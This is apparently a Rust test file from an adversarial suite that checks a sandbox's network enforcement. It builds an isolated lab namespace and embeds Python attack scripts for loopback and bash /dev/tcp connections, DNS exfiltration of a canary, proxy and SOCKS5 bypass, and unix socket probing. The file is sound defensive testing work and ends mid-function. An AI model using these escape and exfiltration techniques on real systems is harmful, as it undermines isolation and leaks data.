//! NET: network enforcement (corpus §1), plus CRED-08 (the metadata service, which needs the
//! same egress lab; its category comes from its id).
//!
//! `[LAB]` cases build the corpus §0.4 egress lab for themselves: a network namespace
//! `corral-adv-lab-<N>` whose `lo` carries 198.18.0.10 (`allowed.test`), 198.18.0.11
//! (`denied.test`), 10.77.0.5 (`private.test`), 169.254.169.254 (fake IMDS), fd00:77::10 and
//! fd00:ec2::254, with the lab daemon (`tests/adversarial/lab/labd.py`) logging every TCP
//! connection, UDP datagram and DNS query, and the lab DNS server on 127.0.0.53:53. `corral
//! run` itself runs inside that namespace with a resolv.conf naming the lab DNS, so its egress
//! proxy resolves through the lab, and nothing can leave the machine even if a guard fails.
//! Every refusal is paired with a positive control: the same attack outside the sandbox (as
//! uid 65534, in the lab), a direct "poke" of each refused listener from the lab namespace,
//! and, in allowlist mode, an in-run request to `allowed.test:8080` through the proxy that
//! must succeed and arrive at the lab listener.

use std::cell::RefCell;
use std::io::{BufRead as _, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::rc::Rc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use std::collections::BTreeMap;

use anyhow::{Context as _, Result, bail};

use super::{control_escapes, escapes_inside, judge_escapes, vars};
use crate::adversarial::case::{Case, Judge, Verdict};
use crate::adversarial::harness::{Control, Ctx, Net, RunObs, RunSpec, sh};

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            id: "NET-01",
            title: "TCP to the supervisor's loopback (mode none)",
            guarantee: "mode none allows no egress",
            script: Some(("py", NET_01)),
            judge: net_01,
        },
        Case {
            id: "NET-02",
            title: "UDP, ICMP, raw sockets, IPv6 and interfaces (mode none)",
            guarantee: "mode none allows no egress",
            script: Some(("py", NET_02)),
            judge: net_02,
        },
        Case {
            id: "NET-03",
            title: "DNS exfiltration in both modes",
            guarantee: "no egress, and no DNS tricks",
            script: Some(("py", NET_03)),
            judge: net_03,
        },
        Case {
            id: "NET-04",
            title: "Abstract unix sockets across the network-namespace boundary",
            guarantee: "no egress, and no access to host services",
            script: Some(("py", NET_04)),
            judge: net_04,
        },
        Case {
            id: "NET-05",
            title: "Unix socket files visible through read-only mounts",
            guarantee: "no egress, and no access to host services or credentials",
            script: Some(("py", NET_05)),
            judge: net_05,
        },
        Case {
            id: "NET-06",
            title: "Bypassing the proxy with direct connections (allowlist)",
            guarantee: "only listed host:port destinations, and only through the proxy",
            script: Some(("py", NET_06)),
            judge: net_06,
        },
        Case {
            id: "NET-07",
            title: "Unlisted host, unlisted port, other protocols (allowlist)",
            guarantee: "only listed host:port destinations",
            script: Some(("py", NET_07)),
            judge: net_07,
        },
        Case {
            id: "NET-08",
            title: "Host name spelling and canonicalization (allowlist)",
            guarantee: "only listed hosts, and no name tricks",
            script: Some(("py", NET_08)),
            judge: net_08,
        },
        Case {
            id: "NET-09",
            title: "IP literal encodings of loopback, private and metadata addresses",
            guarantee: "no private, link-local or metadata addresses unless listed",
            script: Some(("py", NET_09)),
            judge: net_09,
        },
        Case {
            id: "NET-10",
            title: "Allowlisted names that resolve to private, loopback or metadata IPs",
            guarantee: "a listed name does not open non-public IPs, and no DNS tricks",
            script: Some(("py", NET_10)),
            judge: net_10,
        },
        Case {
            id: "NET-11",
            title: "DNS rebinding and multi-answer TOCTOU",
            guarantee: "no DNS tricks",
            script: Some(("py", NET_11)),
            judge: net_11,
        },
        Case {
            id: "NET-12",
            title: "Proxy protocol abuse (allowlist)",
            guarantee: "only listed destinations",
            script: Some(("py", NET_12)),
            judge: net_12,
        },
        Case {
            id: "NET-13",
            title: "AF_VSOCK and socket-family argument width",
            guarantee: "no egress, including to the hypervisor or host",
            script: Some(("py", NET_13)),
            judge: net_13,
        },
        Case {
            id: "CRED-08",
            title: "The metadata service, reached directly (both modes)",
            guarantee: "no cloud credentials, and no metadata addresses",
            script: Some(("py", CRED_08)),
            judge: cred_08,
        },
    ]
}

pub fn extra_fixtures() -> Vec<(String, String, bool)> {
    vec![("lab/labd.py".to_owned(), LABD.to_owned(), true)]
}

// ---------------------------------------------------------------------------------------
// The egress lab.

/// The allowlist of the corpus (§0.4) for allowlist-mode cases.
const ALLOWLIST: &[&str] = &[
    "allowed.test:8080",
    "allowed.test:443",
    "rebind.test:8080",
    "meta.test:80",
    "private.test:80",
    "loop.test:8080",
];

fn allowlist(extra: &[&str]) -> Net {
    Net::Allowlist(
        ALLOWLIST
            .iter()
            .chain(extra)
            .map(|s| (*s).to_owned())
            .collect(),
    )
}

/// One event the lab daemon logged.
#[derive(Clone, Debug)]
struct Event {
    kind: String,
    /// tcp/udp: the listener (`198.18.0.10:8080`); dns: the name asked.
    at: String,
    /// tcp/udp: the peer; dns: the query type.
    peer: String,
    /// tcp/udp: the first bytes (repr); dns: the answer given.
    data: String,
}

impl Event {
    fn show(&self) -> String {
        crate::adversarial::harness::truncate(
            &format!("{} {} {} {}", self.kind, self.at, self.peer, self.data),
            160,
        )
    }
}

/// A running egress lab: its namespace, daemon and logs.
struct Lab {
    ns: String,
    log: PathBuf,
    resolv: PathBuf,
    daemon: Rc<RefCell<Option<Child>>>,
}

static LABS: AtomicUsize = AtomicUsize::new(0);

const LAB_ADDRS: &[&str] = &[
    "198.18.0.10/32",
    "198.18.0.11/32",
    "10.77.0.5/32",
    "169.254.169.254/32",
    "fd00:77::10/128",
    "fd00:ec2::254/128",
];

impl Lab {
    /// Makes the network namespace `ns` and runs `setup` (shell commands) for it; the
    /// namespace is deleted at cleanup. `ip netns add` makes /run/netns a mount (and the
    /// folder) the first time: both are undone when this case made them, once the namespace
    /// is gone.
    fn netns(ctx: &mut Ctx, ns: &str, setup: &[String]) -> Result<()> {
        let mounted = std::fs::read_to_string("/proc/self/mountinfo")
            .unwrap_or_default()
            .lines()
            .any(|l| l.split(' ').nth(4) == Some("/run/netns"));
        let existed = std::path::Path::new("/run/netns").exists();
        {
            let ns = ns.to_owned();
            ctx.on_cleanup(move || {
                let _ = sh(&format!("ip netns del {ns}"));
                if !mounted {
                    let _ = sh("umount /run/netns");
                }
                if !existed {
                    let _ = std::fs::remove_dir("/run/netns");
                }
            });
        }
        for c in std::iter::once(format!("ip netns add {ns}")).chain(setup.iter().cloned()) {
            let (ok, out) = sh(&c);
            if !ok {
                bail!("{c}: {out}");
            }
        }
        Ok(())
    }

    /// A network namespace of the case's own, `corral-adv-wired-<n>`, holding a veth pair
    /// with an address and so an IPv4 route off lo (deleted at cleanup).
    fn wired_netns(ctx: &mut Ctx) -> Result<String> {
        let ns = format!("corral-adv-wired-{}", ctx.n);
        Self::netns(
            ctx,
            &ns,
            &[
                format!("ip -n {ns} link add corral-v0 type veth peer name corral-v1"),
                format!("ip -n {ns} addr add 198.19.77.1/24 dev corral-v0"),
                format!("ip -n {ns} link set corral-v1 up"),
                format!("ip -n {ns} link set corral-v0 up"),
            ],
        )?;
        Ok(ns)
    }

    /// Builds the lab namespace and starts the daemon in it (deleted/killed at cleanup).
    fn start(ctx: &mut Ctx) -> Result<Self> {
        let k = LABS.fetch_add(1, Ordering::SeqCst);
        let ns = format!("corral-adv-lab-{}", ctx.n);
        let mut cmds = vec![format!("ip -n {ns} link set lo up")];
        for a in LAB_ADDRS {
            cmds.push(format!("ip -n {ns} addr add {a} dev lo"));
        }
        Self::netns(ctx, &ns, &cmds)?;
        // The log lives in the suite's scratch folder (no nonce in the daemon's argv: the
        // generic check looks for surviving processes by nonce; the daemon is ours).
        let log = ctx.h.scratch.join(format!("lab{k}.log"));
        let err = ctx.h.scratch.join(format!("lab{k}.err"));
        std::fs::write(&log, "")?;
        {
            let (log, err) = (log.clone(), err.clone());
            ctx.on_cleanup(move || {
                let _ = std::fs::remove_file(log);
                let _ = std::fs::remove_file(err);
            });
        }
        let resolv = ctx.dir.join(format!("lab{k}-resolv.conf"));
        std::fs::write(
            &resolv,
            "nameserver 127.0.0.53\noptions timeout:1 attempts:1\n",
        )?;
        crate::adversarial::harness::set_mode(&resolv, 0o644)?;
        let labd = ctx.h.fixture("lab/labd.py");
        let mut child = Command::new("ip")
            .args(["netns", "exec", &ns, "python3"])
            .arg(&labd)
            .arg(&log)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&err)?)
            .spawn()
            .context("starting the lab daemon")?;
        let stdout = child.stdout.take().context("lab daemon stdout")?;
        let daemon = Rc::new(RefCell::new(Some(child)));
        {
            let d = daemon.clone();
            ctx.on_cleanup(move || stop_daemon(&d));
        }
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = BufReader::new(stdout).read_line(&mut line);
            let _ = tx.send(line);
        });
        match rx.recv_timeout(Duration::from_secs(10)) {
            Ok(l) if l.trim() == "READY" => {}
            other => bail!(
                "the lab daemon did not start ({other:?}): {}",
                std::fs::read_to_string(&err).unwrap_or_default()
            ),
        }
        Ok(Self {
            ns,
            log,
            resolv,
            daemon,
        })
    }

    /// Runs `corral` inside the lab with the lab's resolv.conf.
    fn spec(&self, script: &str) -> RunSpec {
        let mut s = RunSpec::new(script);
        s.netns = Some((self.ns.clone(), Some(self.resolv.clone())));
        s
    }

    /// A control outside the sandbox, in the lab namespace.
    fn control(&self, as_root: bool) -> Control {
        Control {
            as_root,
            netns: Some(self.ns.clone()),
            timeout: Duration::from_secs(30),
            ..Control::default()
        }
    }

    fn events(&self) -> Vec<Event> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| {
                let f: Vec<&str> = l.split('\t').collect();
                (f.len() >= 4).then(|| Event {
                    kind: f[0].to_owned(),
                    at: f[1].to_owned(),
                    peer: f[2].to_owned(),
                    data: f[3].to_owned(),
                })
            })
            .collect()
    }

    /// TCP connections logged at a listener (`198.18.0.10:8080`, `[fd00:77::10]:80`).
    fn tcp(&self, at: &str) -> Vec<Event> {
        self.events()
            .into_iter()
            .filter(|e| e.kind == "tcp" && e.at == at)
            .collect()
    }

    /// Every TCP/UDP event whose first bytes contain `needle`.
    fn carrying(&self, needle: &str) -> Vec<Event> {
        self.events()
            .into_iter()
            .filter(|e| e.kind != "dns" && e.data.contains(needle))
            .collect()
    }

    /// DNS queries (name, qtype, answer).
    fn dns(&self) -> Vec<Event> {
        self.events()
            .into_iter()
            .filter(|e| e.kind == "dns")
            .collect()
    }

    /// Positive control for listeners: connects to each target directly from the lab
    /// namespace (outside any sandbox) and sends `GET /poke-<tag>`; returns the targets
    /// whose listener logged it.
    fn poke(&self, targets: &[&str], tag: &str) -> Vec<String> {
        let code = "import socket,sys\n\
            for t in sys.argv[2:]:\n\
            \x20   h,p=t.rsplit(':',1)\n\
            \x20   try:\n\
            \x20       s=socket.create_connection((h.strip('[]'),int(p)),3)\n\
            \x20       s.sendall(('GET /poke-%s HTTP/1.0\\r\\n\\r\\n'%sys.argv[1]).encode())\n\
            \x20       s.recv(4096); s.close()\n\
            \x20   except OSError as e: print(t,e)\n";
        let _ = Command::new("ip")
            .args(["netns", "exec", &self.ns, "python3", "-c", code, tag])
            .args(targets)
            .stdin(Stdio::null())
            .output();
        let marker = format!("poke-{tag}");
        targets
            .iter()
            .filter(|t| self.tcp(t).iter().any(|e| e.data.contains(&marker)))
            .map(|t| (*t).to_owned())
            .collect()
    }

    /// Pokes every target (as the positive control of their refusals) and records it.
    fn poke_control(&self, targets: &[&str], tag: &str, j: &mut Judge) {
        let fired = self.poke(targets, tag);
        for t in targets {
            j.control(
                fired.iter().any(|f| f == t),
                format!("the lab listener {t} logs a direct connection from the lab"),
            );
        }
    }

    /// Stops the daemon now (the namespace goes at cleanup, after the generic checks).
    fn close(&self) {
        stop_daemon(&self.daemon);
    }
}

/// `ctx.run` inside the lab: corral enters only the lab's network namespace and binds the
/// lab's resolv.conf in a private mount namespace (`RunSpec.netns`).
fn lab_run(
    ctx: &mut Ctx,
    lab: &Lab,
    spec: &RunSpec,
    vars: &BTreeMap<String, String>,
) -> Result<RunObs> {
    let mut spec = spec.clone();
    spec.netns = Some((lab.ns.clone(), Some(lab.resolv.clone())));
    ctx.run(&spec, vars)
}

fn stop_daemon(d: &Rc<RefCell<Option<Child>>>) {
    if let Some(mut c) = d.borrow_mut().take() {
        let _ = c.kill();
        let _ = c.wait();
    }
}

/// Breach lines for lab events; `what` says what they mean.
fn breach_events(j: &mut Judge, events: &[Event], what: &str) {
    for e in events.iter().take(5) {
        j.breach(true, format!("{what}: {}", e.show()));
    }
}

/// The in-run positive control of allowlist runs: the script printed `PROXY-OK` (a request
/// to allowed.test:8080 through the proxy got 200 from the lab) and the lab listener logged
/// it with the run's marker.
fn proxy_ok(ctx: &Ctx, lab: &Lab, run: &RunObs, marker: &str, j: &mut Judge) {
    let said = run.output().contains(&format!("PROXY-OK-{}", ctx.n));
    let logged = lab
        .tcp("198.18.0.10:8080")
        .iter()
        .any(|e| e.data.contains(marker));
    j.control(
        said && logged,
        format!(
            "in the run, allowed.test:8080 through the proxy answered 200 ({said}) and the \
             lab listener logged `{marker}` ({logged})"
        ),
    );
}

// ---------------------------------------------------------------------------------------
// Shared python for the attack scripts (after the prelude).

macro_rules! pylib {
    () => {
        r#"
def preq(raw, timeout=5, after=None):
    """Sends raw bytes to the proxy and reads the reply until it closes. Returns
    (status, X-Corral-Egress code or error, reply bytes); status 0 when no HTTP reply."""
    p = proxy()
    if p is None:
        return 0, "NOPROXY", b""
    try:
        s = socket.create_connection(p, timeout)
    except OSError as e:
        return 0, ename(e.errno) if e.errno else str(e), b""
    s.settimeout(timeout)
    data = b""
    try:
        s.sendall(raw if isinstance(raw, bytes) else raw.encode("latin1"))
        while b"\r\n\r\n" not in data and len(data) < 65536:
            c = s.recv(4096)
            if not c:
                break
            data += c
        if after is not None and data.startswith(b"HTTP/1.1 200"):
            s.sendall(after)
        while True:
            c = s.recv(65536)
            if not c:
                break
            data += c
    except OSError:
        pass
    finally:
        s.close()
    head = data.split(b"\r\n\r\n")[0].decode("latin1").split("\r\n")
    status, code = 0, ""
    parts = head[0].split(" ")
    if len(parts) > 1 and parts[0].startswith("HTTP/") and parts[1].isdigit():
        status = int(parts[1])
    for h in head[1:]:
        if h.lower().startswith("x-corral-egress:"):
            code = h.split(":", 1)[1].strip()
    return status, code, data


def get(url_host, path, host=None, extra=""):
    """An absolute-form GET through the proxy."""
    host = host or url_host
    return preq(f"GET http://{url_host}{path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n")


def proxy_ok(tag):
    """The in-run positive control: allowed.test:8080 through the proxy must answer 200."""
    st, code, data = get("allowed.test:8080", f"/{tag}-{N}")
    if st == 200 and b"hello-from-198.18.0.10:8080" in data:
        say(f"PROXY-OK-{N}")
    else:
        say(f"proxy control failed: {st} {code} {data[:200]!r}")


def refused(label, st, code, data):
    """A proxied request must be refused by policy: a 4xx with corral's reason header."""
    if 400 <= st < 500 and code:
        say(f"{label}: {st} {code}")
    elif 200 <= st < 300 or st == 101:
        esc(f"{label}: proxy answered {st} {data[:120]!r}")
    else:
        esc(f"{label}: not refused by policy: {st} {code} {data[:120]!r}")


def direct(host, port, payload, timeout=2):
    """A direct TCP connection (ignoring the proxy); returns 'CONNECTED' or the errno."""
    try:
        s = socket.create_connection((host, port), timeout)
    except OSError as e:
        return ename(e.errno) if e.errno else str(e)
    try:
        s.sendall(payload.encode() if isinstance(payload, str) else payload)
        s.settimeout(timeout)
        s.recv(1024)
    except OSError:
        pass
    s.close()
    return "CONNECTED"
"#
    };
}

// ---------------------------------------------------------------------------------------
// NET-01

const NET_01: &str = r#"ports = {"127.0.0.2": ARGS[0], "127.0.0.1": ARGS[1], "::1": ARGS[2]}
for addr, port in ports.items():
    fam = "6" if ":" in addr else "4"
    r = tryconnect(fam, addr, port)
    if r == "CONNECTED":
        esc(f"tcp connect {addr}:{port}")
    else:
        say(f"tcp {addr}:{port}: {r}")
for addr in ("127.0.0.2", "127.0.0.1"):
    rc, out = run(f"bash -c 'exec 3<>/dev/tcp/{addr}/{ports[addr]}' && echo OPENED")
    if "OPENED" in out:
        esc(f"bash /dev/tcp {addr}:{ports[addr]}")
# The host's other loopback addresses, and IPv4 on the host side of any interface.
for addr in ("127.1.2.3", "0.0.0.0"):
    r = tryconnect("4", addr, ports["127.0.0.1"])
    if r == "CONNECTED":
        esc(f"tcp connect {addr}:{ports['127.0.0.1']}")
    else:
        say(f"tcp {addr}: {r}")
"#;

fn net_01(ctx: &mut Ctx) -> Result<Verdict> {
    let (t2, p2) = ctx.tcp_listener("127.0.0.2:0")?;
    let (t1, p1) = ctx.tcp_listener("127.0.0.1:0")?;
    let (t6, p6) = ctx.tcp_listener("[::1]:0")?;
    let spec = RunSpec::new("NET-01.py").args(["{P2}", "{P1}", "{P6}"]);
    let v = vars([
        ("P2", p2.to_string()),
        ("P1", p1.to_string()),
        ("P6", p6.to_string()),
    ]);
    let run = ctx.run(&spec, &v)?;
    let inside = (t2.hits(), t1.hits(), t6.hits());
    let ctl = ctx.control(&spec, &v, &Control::default())?;
    let mut j = Judge::new();
    judge_escapes(
        ctx,
        &run,
        &ctl,
        &[
            "tcp connect 127.0.0.2",
            "tcp connect 127.0.0.1",
            "tcp connect ::1",
            "bash /dev/tcp 127.0.0.2",
        ],
        &mut j,
    );
    for (name, tally, before) in [
        ("127.0.0.2", &t2, inside.0),
        ("127.0.0.1", &t1, inside.1),
        ("[::1]", &t6, inside.2),
    ] {
        j.breach(
            before > 0,
            format!("host listener {name} saw {before} connection(s) from the sandbox"),
        );
        j.control(
            tally.above(before),
            format!("host listener {name} saw the control's connection"),
        );
    }
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-02

const NET_02: &str = r#"import struct
mode = ARGS[0]  # in | lab (control in the lab) | host (control in the host's namespace: no traffic)
rc, out = run("ip -o link")
links = [l.split(":")[1].strip().split("@")[0] for l in out.splitlines() if l.count(":") >= 2]
try:  # the same from /proc/net/dev (netlink may be refused)
    links += [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
except OSError as e:
    say(f"/proc/net/dev: {e}")
links = sorted(set(links))
if [l for l in links if l != "lo"]:
    esc(f"interfaces other than lo: {links}")
else:
    say(f"ip -o link: {links} {out.strip()[:200]}")
try:
    rows = [r.split() for r in open("/proc/net/route").read().splitlines()[1:]]
    r4 = [r[0] for r in rows if r and r[0] != "lo"]
    if r4:
        esc(f"ipv4 routes via {r4}")
    else:
        say(f"/proc/net/route: {len(rows)} route(s), none off lo")
except OSError as e:
    say(f"/proc/net/route: {e}")
try:
    rows = [r.split() for r in open("/proc/net/ipv6_route").read().splitlines()]
    r6 = [r[-1] for r in rows if r and r[-1] != "lo"]
    if r6:
        esc(f"ipv6 routes via {sorted(set(r6))}")
    else:
        say(f"/proc/net/ipv6_route: {len(rows)} route(s), none off lo")
except OSError as e:
    say(f"/proc/net/ipv6_route: {e}")
if mode == "host":
    sys.exit(0)

for addr in ("127.0.0.1", "198.18.0.10"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(f"udp-{N}".encode(), (addr, 5300))
        say(f"udp to {addr}:5300 sent (the lab listener decides)")
    except OSError as e:
        say(f"udp {addr}: {ename(e.errno)}")
run(f"bash -c 'echo udp-{N} > /dev/udp/127.0.0.1/5300'")
for fam, addr, port in (("4", "198.18.0.10", 8080), ("6", "fd00:77::10", 80)):
    r = tryconnect(fam, addr, port)
    if r == "CONNECTED":
        esc(f"tcp connect {addr}:{port}")
    else:
        say(f"tcp {addr}:{port}: {r}")
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    esc("AF_PACKET raw socket created")
except OSError as e:
    say(f"AF_PACKET: {ename(e.errno)}")


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b)//2}H", b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


for kind, typ in (("raw", socket.SOCK_RAW), ("ping", socket.SOCK_DGRAM)):
    try:
        s = socket.socket(socket.AF_INET, typ, socket.IPPROTO_ICMP)
    except OSError as e:
        say(f"icmp {kind} socket: {ename(e.errno)}")
        continue
    payload = f"ping-{N}".encode()
    hdr = struct.pack("!BBHHH", 8, 0, 0, 0x4242, 1)
    pkt = struct.pack("!BBHHH", 8, 0, csum(hdr + payload), 0x4242, 1) + payload
    s.settimeout(1)
    try:
        s.sendto(pkt, ("198.18.0.10", 0))
        data = s.recv(1024)
        esc(f"icmp {kind} echo reply from 198.18.0.10 ({len(data)} bytes)")
    except OSError as e:
        say(f"icmp {kind} echo: {ename(e.errno) if e.errno else e}")
    except socket.timeout:
        say(f"icmp {kind} echo: no reply")
"#;

fn net_02(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let spec = lab.spec("NET-02.py").args(["in"]);
    let v = vars([]);
    let run = lab_run(ctx, &lab, &spec, &v)?;
    let mut j = Judge::new();
    escapes_inside(ctx, &run, &mut j);
    let udp = lab.carrying(&format!("udp-{}", ctx.n));
    breach_events(
        &mut j,
        &udp,
        "a lab UDP listener got a datagram from the sandbox",
    );
    for at in ["198.18.0.10:8080", "[fd00:77::10]:80"] {
        breach_events(&mut j, &lab.tcp(at), "a lab listener saw the sandbox");
    }
    // Controls: as root in the lab (traffic, raw sockets), and as uid 65534 in a namespace
    // of the case's own with a veth pair and an IPv4 route (interfaces and routes only: no
    // traffic leaves the lab). Not the host's namespace: a guest without network devices
    // has nothing but lo there, and the control must fire on every host.
    let ctl = ctx.control(&spec.clone().args(["lab"]), &v, &lab.control(true))?;
    control_escapes(
        ctx,
        &ctl,
        &[
            "tcp connect 198.18.0.10",
            "tcp connect fd00:77::10",
            "AF_PACKET",
            "icmp raw echo reply",
        ],
        &mut j,
    );
    j.control(
        lab.carrying(&format!("udp-{}", ctx.n)).len() >= 2,
        "the lab UDP listeners (127.0.0.1:5300, 198.18.0.10:5300) logged the control's datagrams",
    );
    j.control(
        !lab.tcp("198.18.0.10:8080").is_empty() && !lab.tcp("[fd00:77::10]:80").is_empty(),
        "the lab TCP listeners logged the control's connections",
    );
    let wired = crate::adversarial::host::outside_sandbox(|| Lab::wired_netns(ctx))?;
    let host = ctx.control(
        &RunSpec::new("NET-02.py").args(["host"]),
        &v,
        &Control {
            netns: Some(wired),
            ..Control::default()
        },
    )?;
    control_escapes(
        ctx,
        &host,
        &["interfaces other than lo", "ipv4 routes"],
        &mut j,
    );
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-03

const NET_03: &str = concat!(
    pylib!(),
    r#"
import struct
d = f"CANARY-{N}".encode().hex()
name = f"{d}.exfil.test"
try:
    socket.getaddrinfo(name, 80)
    esc(f"getaddrinfo {name} resolved")
except socket.gaierror as e:
    say(f"getaddrinfo: {e}")
rc, out = run(f"getent hosts {name}", timeout=10)
say(f"getent: rc {rc} {out.strip()[:100]}")
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in name.split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
for srv in ("127.0.0.53", "127.0.0.1", "198.18.0.10"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.sendto(q, (srv, 53))
        s.recvfrom(512)
        esc(f"dns answer from {srv}")
    except socket.timeout:
        say(f"dns {srv}: no answer")
    except OSError as e:
        say(f"dns {srv}: {ename(e.errno)}")
if proxy():
    proxy_ok("n03")
    refused("CONNECT exfil", *preq(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n"))
    refused("GET exfil", *get(name, "/"))
    # socks5h: greeting, then CONNECT by name.
    try:
        s = socket.create_connection(proxy(), 5)
        s.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name.encode() + b"\x00\x50")
        s.settimeout(3)
        r = s.recv(64)
        if r[:2] == b"\x05\x00":
            esc(f"SOCKS5 accepted: {r!r}")
        else:
            say(f"socks5: {r[:40]!r}")
    except OSError as e:
        say(f"socks5: {e}")
"#
);

fn net_03(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let hex: String = ctx.canary().bytes().map(|b| format!("{b:02x}")).collect();
    let v = vars([]);
    let mut j = Judge::new();
    let none = lab_run(ctx, &lab, &lab.spec("NET-03.py"), &v)?;
    escapes_inside(ctx, &none, &mut j);
    let mut spec = lab.spec("NET-03.py");
    spec.net = allowlist(&[]);
    let allow = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &allow, &mut j);
    proxy_ok(ctx, &lab, &allow, &format!("n03-{}", ctx.n), &mut j);
    let leaked: Vec<Event> = lab
        .dns()
        .into_iter()
        .filter(|e| e.at.contains(&hex) || e.at.contains(&ctx.canary().to_lowercase()))
        .collect();
    breach_events(&mut j, &leaked, "the lab DNS saw the exfiltration name");
    breach_events(
        &mut j,
        &lab.carrying(&hex),
        "a lab listener saw the exfiltration name",
    );
    // The DNS log works and sees the proxy's own lookups: the listed name was resolved.
    j.control(
        lab.dns().iter().any(|e| e.at == "allowed.test"),
        "the lab DNS logged the proxy's lookup of the listed allowed.test",
    );
    let ctl = ctx.control(&lab.spec("NET-03.py"), &v, &lab.control(false))?;
    control_escapes(ctx, &ctl, &["dns answer from 127.0.0.53"], &mut j);
    j.control(
        lab.dns().iter().any(|e| e.at.contains(&hex)),
        "the lab DNS logged the control's exfiltration query",
    );
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-04

const NET_04: &str = r#"name = ARGS[0]
say(f"HTTP_PROXY={os.environ.get('HTTP_PROXY')}")
r = tryconnect("u", "@" + name)
if r == "CONNECTED":
    esc(f"abstract connect @{name}")
else:
    say(f"@{name}: {r}")
try:
    n = open("/proc/net/unix").read().count(name)
    if n:
        esc(f"/proc/net/unix lists @{name} ({n})")
    else:
        say("/proc/net/unix: 0")
except OSError as e:
    say(f"/proc/net/unix: {e}")
for other in ("@/tmp/.X11-unix/X0", "@/tmp/dbus-corral", "@/containerd-shim"):
    r = tryconnect("u", other)
    if r == "CONNECTED":
        esc(f"abstract connect {other}")
"#;

fn net_04(ctx: &mut Ctx) -> Result<Verdict> {
    let name = format!("corral-adv-{}", ctx.n);
    let tally = ctx.unix_listener(&format!("@{name}"))?;
    let v = vars([("NAME", name.clone())]);
    let spec = RunSpec::new("NET-04.py").args(["{NAME}"]);
    let mut j = Judge::new();
    let none = ctx.run(&spec, &v)?;
    escapes_inside(ctx, &none, &mut j);
    let mut aspec = spec.clone();
    aspec.net = Net::Allowlist(vec!["allowed.test:8080".into()]);
    let allow = ctx.run(&aspec, &v)?;
    escapes_inside(ctx, &allow, &mut j);
    j.require(
        allow.output().contains("HTTP_PROXY=http://127.0.0.1:3128"),
        "the second run was in allowlist mode (its worker saw the proxy)",
    );
    let inside = tally.hits();
    j.breach(
        inside > 0,
        format!(
            "the host's abstract socket @{name} accepted {inside} connection(s) from the sandbox"
        ),
    );
    let ctl = ctx.control(&spec, &v, &Control::default())?;
    control_escapes(
        ctx,
        &ctl,
        &["abstract connect @corral-adv", "/proc/net/unix"],
        &mut j,
    );
    j.control(
        tally.above(inside),
        "the host's abstract listener accepted the control",
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-05

const NET_05: &str = r#"import stat
mode, targets = ARGS[0], ARGS[1:]
found = set(targets)


def scan(d):
    try:
        it = list(os.scandir(d))
    except OSError:
        return
    for e in it:
        try:
            if e.is_symlink() or e.is_file(follow_symlinks=False):
                continue
            if e.is_dir(follow_symlinks=False):
                if e.path not in ("/proc", "/sys"):
                    scan(e.path)
            elif stat.S_ISSOCK(e.stat(follow_symlinks=False).st_mode):
                found.add(e.path)
        except OSError:
            pass


if mode == "scan":
    scan("/")
    say(f"socket files visible: {len(found) - len(targets)} (plus {len(targets)} named)")
for p in sorted(found):
    for fam in ("u", "ud"):
        r = tryconnect(fam, p, timeout=1)
        if r == "CONNECTED":
            esc(f"unix {fam} connect {p}")
        elif p in targets:
            say(f"{fam} {p}: {r}")
"#;

fn net_05(ctx: &mut Ctx) -> Result<Verdict> {
    let n = ctx.n.clone();
    let stream = [
        format!("/tmp/corral-adv-{n}.sock"),
        format!("/var/tmp/corral-adv-{n}.sock"),
        format!("/run/corral-adv-{n}.sock"),
        // Visible read-only inside the sandbox (the host's /usr is bound): a read-only mount
        // does not stop connect(2) on its own.
        format!("/usr/lib/corral-adv-{n}.sock"),
    ];
    let dgram = [
        format!("/tmp/corral-adv-{n}-d.sock"),
        format!("/run/corral-adv-{n}-d.sock"),
        format!("/usr/lib/corral-adv-{n}-d.sock"),
    ];
    let mut tallies = Vec::new();
    for p in &stream {
        tallies.push((p.clone(), ctx.unix_listener(p)?));
    }
    for p in &dgram {
        tallies.push((p.clone(), ctx.unix_dgram(p)?));
    }
    let all: Vec<String> = stream.iter().chain(dgram.iter()).cloned().collect();
    let mut args = vec!["scan".to_owned()];
    args.extend(all.iter().cloned());
    let spec = RunSpec::new("NET-05.py").args(args);
    let v = vars([]);
    let mut j = Judge::new();
    let run = ctx.run(&spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    let inside: Vec<usize> = tallies.iter().map(|(_, t)| t.hits()).collect();
    for ((p, _), n) in tallies.iter().zip(&inside) {
        j.breach(*n > 0, format!("{p} saw {n} contact(s) from the sandbox"));
    }
    // The control connects only to the harness's own sockets (a scan outside would poke
    // real host services).
    let mut cargs = vec!["targets".to_owned()];
    cargs.extend(all.iter().cloned());
    let ctl = ctx.control(
        &RunSpec::new("NET-05.py").args(cargs),
        &v,
        &Control::default(),
    )?;
